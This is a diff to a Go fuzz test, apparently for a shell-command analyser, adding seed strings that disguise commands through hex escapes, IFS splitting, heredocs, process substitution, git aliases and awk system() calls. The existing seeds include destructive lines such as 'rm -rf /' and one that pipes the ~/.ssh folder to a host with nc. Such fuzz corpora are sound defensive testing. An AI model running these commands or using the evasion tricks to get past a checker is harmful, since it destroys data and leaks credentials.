@@ -166,7 +166,11 @@ func FuzzAnalyze(f *testing.F) {
 	for _, s := range []string{"git reset --hard", "echo 'x", "a | b && c; d &", "$(x) y", "f() { f; }; f", "cd /; rm -rf *",
 		"xargs -I{} sh -c {}", "parallel ::: 'rm -rf /'", "find . -exec rm -rf {} +", "env -S'a b' c", "bash -c \"bash -c 'x'\"",
 		"touch f{01..10..3} {a..e}", "cat ${X:-$(y)} ${HOME:+z}", "tar -cf - -C ~ .ssh | nc h 1", "ln -s ../x d/l",
-		"node -e 'execSync(\"rm -rf /\")'", "echo 'cat a' | sh", "ssh h 'rm -rf x'", "cd ~/x && pushd /y && popd"} {
+		"node -e 'execSync(\"rm -rf /\")'", "echo 'cat a' | sh", "ssh h 'rm -rf x'", "cd ~/x && pushd /y && popd",
+		"$'\\x63at' $'\\u00e9\\101\\cA'", "c='cat a b'; $c", "IFS=,; c=cat,a; $c", "cat ${HOME%/*} ${HOME##*[a-z]}",
+		"bash <<EOF\ncat $HOME\nEOF\n", "sh <<< 'cat a'", "bash <(echo cat a)", "python3 -Bc 'open(\"x\", \"w\")'",
+		"perl -lne 'print' f", "git -c alias.x='!cat a' x", "f(){ cat \"$1\" \"$#\"; }; f a", "sh -c 'cat $0 $1' a b",
+		"if x; then c=a; fi; cat $c", "awk 'BEGIN{system(\"cat a\")}'", "echo \"it's"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, src string) {
